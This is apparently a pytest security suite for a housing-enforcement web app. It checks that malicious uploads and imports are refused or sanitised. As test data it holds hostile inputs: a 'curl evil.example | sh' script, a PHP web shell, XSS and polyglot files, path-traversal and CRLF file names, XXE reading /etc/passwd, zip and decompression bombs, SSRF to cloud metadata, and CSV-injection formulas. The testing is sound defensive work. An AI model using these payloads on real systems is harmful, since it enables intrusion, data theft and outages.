"""Files that are something else than they say: handed in as evidence, or to be loaded."""

import csv
import gzip
import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from means import Site, attack
from PIL import Image
from sqlalchemy import select

import acacia
import pictured
from hmo_enforce.accounts.roles import Role
from hmo_enforce.evidence.records import EvidenceItem
from hmo_enforce.files.outside import layers, looking, sniffing
from hmo_enforce.kernel.errors import Refused

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
NAME = "mrs-khans-bedroom"


def hand_in(site: Site, name: str, content: bytes, **fields: str) -> Any:
    """One file as evidence about a home, by an officer."""
    path = site.path("/properties/{property_id:int}/evidence")
    return site.of(Role.OFFICER).post(path, fields, files=[("files", (name, content))])


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """A zip of these."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return kept.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG whose head says that it is so large; there is next to nothing in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


MISLABELLED = {
    "SVG": SVG,
    "SVG in gzip": gzip.compress(SVG),
    "HTML": HTML,
    "HTML behind a byte-order mark": b"\xef\xbb\xbf" + HTML,
    "HTML behind blanks": b"  \r\n\t" * 200 + HTML,
    "XHTML": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "a script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "a program of Windows": b"MZ" + bytes(200),
    "a program of Linux": b"\x7fELF" + bytes(200),
    "PHP": b"<?php system($_GET['c']); ?>",
    "a zip": zipped(("a.jpg", b"x")),
    "a Word document": zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")),
    "a Java archive": zipped(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")),
    "a Flash film": b"FWS\x09" + bytes(100),
    "MHTML": b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
    "PostScript": b"%!PS-Adobe-3.0\n(evil) run\n",
    "ImageMagick's own language": b"push graphic-context\nfill 'url(https://evil.example/)'\npop graphic-context\n",
    "a film": b"\x00\x00\x00\x18ftypmp42" + bytes(100),
    "GIF and JavaScript at once, with no picture in it": b"GIF89a/*" + bytes(20) + b"*/=1;alert(document.cookie)//;",
    "nothing but the first bytes of a JPEG": b"\xff\xd8\xff\xe0<script>alert(1)</script>",
    "a PDF's first bytes and HTML": b"%PDF-1.5\n" + HTML,
}


@attack(100, "A web page, an SVG, a program or an archive is handed in as a photograph, by its name and its declared type.")
@pytest.mark.parametrize("what", list(MISLABELLED))
def test_what_is_no_photograph(site: Site, what: str):
    with site.refuses(NAME, "evil.example"):
        assert hand_in(site, f"{NAME}.jpg", MISLABELLED[what]).status_code == 422


POLYGLOTS = {
    "a JPEG with a web page in its comment": pictured.picture(comment=HTML),
    "a JPEG with a web page after its end": pictured.picture() + HTML,
    "a PNG with a program after its end": pictured.picture("PNG") + b"MZ" + bytes(200),
    "a JPEG that is a zip as well": pictured.picture() + zipped(("evil.jsp", b"<% %>")),
    "a GIF that is JavaScript as well": pictured.picture("GIF") + b"/*\n*/alert(1)",
}


@attack(101, "A picture that is a web page, a program or an archive as well is opened in the site's name.")
@pytest.mark.parametrize("what", list(POLYGLOTS))
def test_a_picture_that_is_something_else_as_well(own_site: Site, what: str):
    hand_in(own_site, "kitchen.jpg", POLYGLOTS[what])
    with own_site.sessions.writing() as session:
        item = session.scalars(select(EvidenceItem).order_by(EvidenceItem.id.desc())).first()
        assert item is not None
        item = pictured.clean(session, own_site.settings, item) if what.startswith("a JPEG") else item
    browser, path = own_site.of(Role.OFFICER), own_site.path(f"/properties/{{property_id:int}}/evidence/{item.id}")

    shown, original = browser.get(f"{path}/display"), browser.get(f"{path}/original")

    for answer in (shown, original):
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.status_code in (200, 404, 422)
    assert shown.status_code == (200 if what.startswith("a JPEG") else shown.status_code)
    if shown.status_code == 200:
        assert shown.headers["content-type"] == "image/jpeg"
        assert b"<script" not in shown.content
        assert b"evil.jsp" not in shown.content
    if original.status_code == 200:
        assert original.headers["content-type"].startswith("application/octet-stream")
        assert original.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in original.headers["content-security-policy"]


NAMES = ["../../../../etc/passwd.jpg", "/etc/cron.d/evil.jpg", "..\\..\\windows\\system32\\evil.jpg", "C:\\evil.jpg", "\\\\host\\share.jpg",
         "....//....//evil.jpg", "%2e%2e%2fevil.jpg", "evil.jpg;/../x", "CON.jpg", ".htaccess", "a/../../b.jpg", "~root/.ssh/x.jpg"]  # fmt: skip


@attack(102, "The name of a file leads out of the folder for uploads.")
@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_leads_elsewhere(own_site: Site, name: str):
    before = outside(own_site)

    hand_in(own_site, name, pictured.picture(size=(64, 64)))
    own_site.of(Role.MANAGER).post(
        "/imports/new", {"kind": "licences", "on": "2024-04-01"}, files={"file": (name, b"reference,address\nL1,x\n")}
    )

    assert outside(own_site) == before
    folder = own_site.settings.data_dir.resolve()
    assert all(path.resolve().is_relative_to(folder) for path in folder.rglob("*"))
    assert all(name not in str(path) for path in folder.rglob("*"))


def outside(site: Site) -> set[str]:
    """What lies beside the folder of ours."""
    beside = site.settings.data_dir.parent
    return {path.name for path in (*beside.iterdir(), *beside.parent.iterdir()) if not path.name.startswith("acacia.sqlite")}


@attack(103, "The name of a file has a NUL in it, so that one reader sees another ending.")
def test_a_name_with_nul(site: Site):
    with site.watched(NAME):
        assert hand_in(site, f"{NAME}.jpg\x00.html", pictured.picture()).status_code in (400, 422)


CONTROL = [
    "\u202egpj.exe",
    "a\r\nSet-Cookie: x=y\r\n.jpg",
    'a".jpg; filename="evil.html',
    "a\x1b[31m.jpg",
    "<img src=x onerror=alert(1)>.jpg",
]


@attack(
    104, "The name of a file turns the reading direction, breaks a header (Content-Disposition) or a terminal, or holds markup."
)
@pytest.mark.parametrize("name", CONTROL)
def test_a_name_with_control_characters(own_site: Site, name: str):
    hand_in(own_site, name, pictured.picture(size=(80, 64)))
    with own_site.sessions.writing() as session:
        item = session.scalars(select(EvidenceItem).order_by(EvidenceItem.id.desc())).first()
        assert item is not None
        pictured.clean(session, own_site.settings, item)
    path = own_site.path(f"/properties/{{property_id:int}}/evidence/{item.id}")

    page, original = own_site.of(Role.OFFICER).get(path), own_site.of(Role.OFFICER).get(f"{path}/original")

    assert original.headers["content-disposition"] == f'attachment; filename="evidence-{item.id}.jpg"'
    assert "set-cookie" not in {one.lower() for one in original.headers}
    assert all(one.isprintable() for one in item.file_name)
    assert not {"\u202e", "\x1b", "<img"} & set(page.text)
    assert "<img src=x" not in page.text


BOMBS = {
    "a PNG of 60,000 by 60,000 points": png_of(60_000, 60_000),
    "a PNG of 2,147,483,647 points": png_of(2_147_483_647, 1),
    "a GIF of 65,535 by 65,535 points": b"GIF89a\xff\xff\xff\xff\x80\x00\x00"
    + bytes(6)
    + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x00;",
    "a PDF of 9,999,999 pages": pictured.pdf(pages=9_999_999),
    "a PDF whose packed objects unpack to 60 MB": pictured.pdf(
        packed=b"/Type/Pages/Count 99999 " + bytes(60_000_000), pages=99_999
    ),
}


@attack(105, "A small picture or document that is enormous once it is opened.")
@pytest.mark.parametrize("what", list(BOMBS))
def test_a_bomb_among_the_evidence(site: Site, what: str):
    with site.refuses(NAME):
        assert hand_in(site, f"{NAME}.png", BOMBS[what]).status_code == 422


@attack(106, "A photograph brings the place where it was taken, and whose camera it was, into what others see.")
def test_what_a_camera_writes(own_site: Site):
    with own_site.sessions.writing() as session:
        item = pictured.handed_in(
            session, own_site.settings, "property", own_site.keys["property_id"], pictured.picture(size=(72, 48))
        )
        item = pictured.clean(session, own_site.settings, item)
    path = own_site.path(f"/properties/{{property_id:int}}/evidence/{item.id}/display")

    shown = own_site.of(Role.OFFICER).get(path)

    assert b"Acacia Cameras" not in shown.content
    assert not Image.open(io.BytesIO(shown.content)).getexif()


# --- files to be loaded


def refused(path: Path, content: bytes) -> str:
    """Why a table is not read."""
    path.write_bytes(content)
    with pytest.raises(Refused) as why:
        looking.look(path, max_bytes=sniffing.MAX_BYTES)
    return str(why.value)


def refused_layer(path: Path, content: bytes) -> str:
    """Why areas are not read."""
    path.write_bytes(content)
    with pytest.raises(Refused) as why:
        layers.columns(path, None, 50_000_000)
    return str(why.value)


def a_link() -> zipfile.ZipInfo:
    """A symbolic link as a zip holds one."""
    link = zipfile.ZipInfo("layer.shp")
    link.external_attr = 0o120777 << 16
    return link


SLIPS = {
    "up": zipped(("../../evil.shp", b"x"), ("a.dbf", b"x"), ("a.shx", b"x")),
    "absolute": zipped(("/etc/evil.shp", b"x"), ("a.dbf", b"x")),
    "Windows": zipped(("..\\..\\evil.shp", b"x"), ("C:\\a.dbf", b"x")),
    "a link": zipped((a_link(), b"/etc/passwd"), ("layer.dbf", b"x"), ("layer.shx", b"x")),
    "a zip in a zip": zipped(("inner.zip", zipped(("a.shp", b"x")))),
    "thousands of parts": zipped(*((f"{number}.shp", b"") for number in range(1_001))),
}


@attack(107, "A zip holds a name that leads out of its folder, a link, a zip, or thousands of parts (zip slip).")
@pytest.mark.parametrize("what", list(SLIPS))
def test_a_zip_that_slips(tmp_path: Path, what: str):
    (tmp_path / "in").mkdir()

    assert refused_layer(tmp_path / "in" / "layer.zip", SLIPS[what])
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == ["layer.zip"]


@attack(108, "A zip of tables holds a name that leads out of its folder, or a link.")
@pytest.mark.parametrize("name", ["../../evil.csv", "/etc/evil.csv", "..\\evil.csv", "C:\\evil.csv"])
def test_a_zip_of_tables_that_slips(tmp_path: Path, name: str):
    (tmp_path / "in").mkdir()

    assert refused(tmp_path / "in" / "tables.zip", zipped((name, b"reference,address\n1,2\n")))
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == ["tables.zip"]


@attack(109, "A zip of 120 MB of nothing, packed to less than one.")
def test_a_zip_bomb(tmp_path: Path):
    bomb = zipped(("layer.shp", bytes(120_000_000)), ("layer.dbf", b"x"), ("layer.shx", b"x"))

    assert len(bomb) < 1_000_000
    assert "it is not unpacked" in refused_layer(tmp_path / "bomb.zip", bomb)


@attack(110, "A gzipped table that unpacks to 300 times its size.")
def test_a_gzip_bomb(tmp_path: Path):
    line = b"L1,1 Acacia Avenue,2024-04-01\n"

    assert "too much for a table" in refused(
        tmp_path / "bomb.csv.gz", gzip.compress(b"reference,address,starts_on\n" + line * 2_500_000)
    )


def workbook(sheet: bytes, shared: bytes = b"", prologue: bytes = b"") -> bytes:
    """A workbook of one sheet, with what is wrong in it."""
    spread = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    link = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    relation = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    return zipped(
        ("[Content_Types].xml", types),
        ("_rels/.rels", relation % (b'<Relationship Id="r1" Type="%s/officeDocument" Target="xl/workbook.xml"/>' % kind)),
        ("xl/_rels/workbook.xml.rels", relation % (b'<Relationship Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="%s/sharedStrings" Target="sharedStrings.xml"/>' % (kind, kind))),
        ("xl/workbook.xml", b'%s<workbook %s %s><sheets><sheet name="Register" sheetId="1" r:id="r1"/></sheets></workbook>' % (prologue, spread, link)),
        ("xl/sharedStrings.xml", b"%s<sst %s>%s</sst>" % (prologue, spread, shared or b"<si><t>reference</t></si>")),
        ("xl/worksheets/sheet1.xml", b"%s<worksheet %s><sheetData>%s</sheetData></worksheet>" % (prologue, spread, sheet)),
    )  # fmt: skip


LAUGHS = b'<!DOCTYPE lolz [<!ENTITY a "lol">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9)
)
OUTSIDE_ENTITY = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
A_CELL = b'<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c><c r="B1" t="inlineStr"><is><t>address</t></is></c></row>'


@attack(111, "A workbook's XML reads a file of the server by an entity (XXE).")
def test_a_workbook_with_an_entity(tmp_path: Path):
    book = workbook(A_CELL % b"&xxe;", b"<si><t>&xxe;</t></si>", OUTSIDE_ENTITY)

    assert "root:" not in refused(tmp_path / "xxe.xlsx", book)


@attack(112, "A workbook's XML grows a thousand millionfold by entities (billion laughs).")
def test_a_workbook_that_laughs(tmp_path: Path):
    assert refused(tmp_path / "laughs.xlsx", workbook(A_CELL % b"&j;", b"<si><t>&j;</t></si>", LAUGHS))


@attack(113, "A workbook of 280 MB of shared texts, packed to less than one.")
def test_a_workbook_bomb(tmp_path: Path):
    book = workbook(A_CELL % b"reference", b"<si><t>" + b"a" * 280_000_000 + b"</t></si>")

    assert len(book) < 2_000_000
    assert refused(tmp_path / "bomb.xlsx", book)


NESTED = b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":%s}]}'
DEEP = {
    "coordinates in 100,000 brackets": NESTED % (b'{"type":"Polygon","coordinates":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "collections in 20,000 collections": NESTED
    % (b'{"type":"GeometryCollection","geometries":[' * 20_000 + b"]}" * 20_000),
    "properties in 100,000 properties": b'{"type":"FeatureCollection","features":[{"type":"Feature","geometry":null,"properties":'
    + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}]}",
}  # fmt: skip


@attack(114, "GeoJSON is nested a hundred thousand deep.")
@pytest.mark.parametrize("what", list(DEEP))
def test_geojson_that_is_nested_deep(tmp_path: Path, what: str):
    assert refused_layer(tmp_path / "deep.geojson", DEEP[what])


GPX = b'%s<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="53" lon="-2"><name>&xxe;</name></wpt></gpx>'


@attack(115, "Areas come as XML (GPX, KML, GML, a virtual layer that reads another file or address), with entities in it.")
@pytest.mark.parametrize("name", ["a.gpx", "a.kml", "a.gml", "a.vrt", "a.geojson", "a.svg"])
def test_areas_as_xml(tmp_path: Path, name: str):
    virtual = (
        b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    )

    assert "root:" not in refused_layer(tmp_path / name, virtual if name.endswith("vrt") else GPX % OUTSIDE_ENTITY)


REMOTE = [b'{"type":"FeatureCollection","crs":{"type":"link","properties":{"href":"http://127.0.0.1:9/crs"}},"features":[]}',
          b"/vsicurl/http://127.0.0.1:9/x.geojson", b"PG:host=127.0.0.1 dbname=x", b"http://169.254.169.254/latest/meta-data/"]  # fmt: skip


@attack(116, "A file of areas has the server fetch an address (SSRF).")
@pytest.mark.parametrize("content", REMOTE)
def test_a_file_that_would_be_fetched(tmp_path: Path, content: bytes):
    try:
        found = layers.columns(tmp_file(tmp_path, content), None, 50_000_000)
    except Refused:
        found = ()
    assert found == ()


def tmp_file(folder: Path, content: bytes) -> Path:
    """A file of areas."""
    path = folder / "areas.geojson"
    path.write_bytes(content)
    return path


@attack(117, "A file is loaded in a form with two files, with no token before the file, or as another form.")
def test_a_file_in_a_form_that_is_not_ours(site: Site):
    browser = site.of(Role.MANAGER)
    token = browser.client.cookies["hmo_csrf"]
    boundary = {"content-type": "multipart/form-data; boundary=x"}
    file = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nreference\r\n'
    late = file + b'--x\r\nContent-Disposition: form-data; name="_csrf_token"\r\n\r\n' + token.encode() + b"\r\n--x--\r\n"

    with site.refuses():
        assert browser.client.post("/imports/new", content=late, headers=boundary).status_code == 403
        assert browser.client.post("/imports/new", content=b"--x", headers=boundary).status_code in (400, 403)
    with site.watched():
        several = [("file", ("a.csv", b"reference\n")), ("file", ("b.csv", b"reference\n"))]
        answer = browser.post("/imports/new", {"kind": "licences", "on": "2024-04-01"}, files=several)
        assert answer.status_code == 400


@attack(118, "A form is far larger than any of ours, has thousands of fields, or announces more than it is.")
def test_a_form_that_is_too_large(site: Site):
    browser, path = site.of(Role.OFFICER), site.path("/cases/{case_id:int}/note")

    with site.refuses():
        assert browser.post(path, {"text": "x" * 2_100_000, "kind": "fact"}).status_code == 413
    with site.watched():
        fields = {f"field{number}": "x" for number in range(20_000)}
        assert browser.post(path, fields).status_code in (413, 422, 400)
        announced = {"content-length": str(10**12), "content-type": "multipart/form-data; boundary=x"}
        big = browser.client.post(site.path("/properties/{property_id:int}/evidence"), headers=announced, content=b"--x")
        assert big.status_code == 413


@attack(119, "A spreadsheet runs what stands in a file of ours: names and addresses that begin with = + - @ (CSV injection).")
@pytest.mark.parametrize(
    "path", ["/properties.csv", "/to-visit.csv", "/to-visit/lapsed.csv", "/imports/{import_id:int}/issues.csv"]
)
def test_a_formula_in_a_file_of_ours(own_site: Site, path: str):
    formulas = [
        '=HYPERLINK("http://evil.example","x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1",
        " =1",
    ]
    with own_site.sessions.writing() as session:
        for number, formula in enumerate(formulas):
            home = acacia.an_address(session, f"{formula} Evil Row", east=10.0 + number)
            acacia.a_verdict(session, home, "licensable")

    text = own_site.of(Role.MANAGER).get(own_site.path(path)).text

    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+@＝") or cell[:1] in set("\t\r-")] == []
